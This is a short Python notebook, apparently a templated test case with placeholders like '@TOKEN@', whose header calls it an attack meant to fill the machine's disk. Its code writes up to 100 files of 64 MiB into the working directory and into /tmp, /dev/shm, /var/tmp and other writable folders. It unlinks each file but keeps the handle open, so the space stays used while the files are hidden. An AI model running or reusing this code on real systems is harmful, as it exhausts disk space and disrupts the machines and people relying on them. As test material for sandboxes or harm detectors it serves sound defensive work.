# ---
# jupyter:
#   attack: {harm: "it would fill this machine's disk"}
# ---

# %% [markdown]
# Fills the disk with large files, in every folder that can be written to, under names and without.

# %%
import os
import tempfile

kept = []
for folder in (".", tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", "@OUTSIDE@"):
    try:
        for number in range(100):
            kept.append(open(f"{folder}/@TOKEN@-{number}", "wb"))
            kept[-1].write(b"x" * (1 << 26))
            os.unlink(kept[-1].name)
    except OSError as error:
        print(error)
